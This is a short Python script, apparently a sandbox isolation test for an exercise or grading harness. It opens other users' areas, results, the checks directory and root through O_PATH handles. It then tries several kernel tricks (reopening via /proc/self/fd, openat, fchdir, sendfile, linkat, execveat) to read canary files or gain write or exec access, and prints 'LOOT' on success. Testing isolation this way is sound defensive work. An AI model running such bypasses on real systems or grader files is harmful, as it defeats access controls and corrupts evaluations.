# attack: opens foreign files by O_PATH, which needs no right to read, and turns that into a readable descriptor
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
AT_EMPTY_PATH = 0x1000
for place in ("@OTHER@", "@RESULTS@", "@HOME@", "@KIT@/checks", "/"):
    for name in ("", "/canary.txt"):
        try:
            fd = os.open(place + name, os.O_PATH)
        except OSError as error:
            print(place + name, error.strerror)
            continue
        tries = {
            "/proc/self/fd": lambda: os.read(os.open(f"/proc/self/fd/{fd}", os.O_RDONLY), 100),
            "/dev/fd": lambda: os.read(os.open(f"/dev/fd/{fd}", os.O_RDONLY), 100),
            "openat": lambda: os.read(os.open("canary.txt", os.O_RDONLY, dir_fd=fd), 100),
            "openat for writing": lambda: os.open("canary.txt", os.O_WRONLY, dir_fd=fd),
            "listdir": lambda: os.listdir(fd) if place != "/" else 1 / 0,
            "scandir in proc": lambda: os.listdir(f"/proc/self/fd/{fd}") if place != "/" else 1 / 0,
            "fchdir": lambda: (os.fchdir(fd), open("canary.txt").read()),
            "read": lambda: os.read(fd, 100),
            "sendfile": lambda: os.sendfile(1, fd, 0, 100),
            "link": lambda: 1 / (libc.linkat(fd, b"", -100, b"mine", AT_EMPTY_PATH) == 0) and open("mine").read(),
            "execveat": lambda: 1 / (libc.execveat(fd, b"", None, None, AT_EMPTY_PATH) == 0),
        }
        for what, action in tries.items():
            try:
                print("LOOT:", place, what, action())
            except (OSError, ZeroDivisionError) as error:
                print(place, what, error)
print("TRIED")
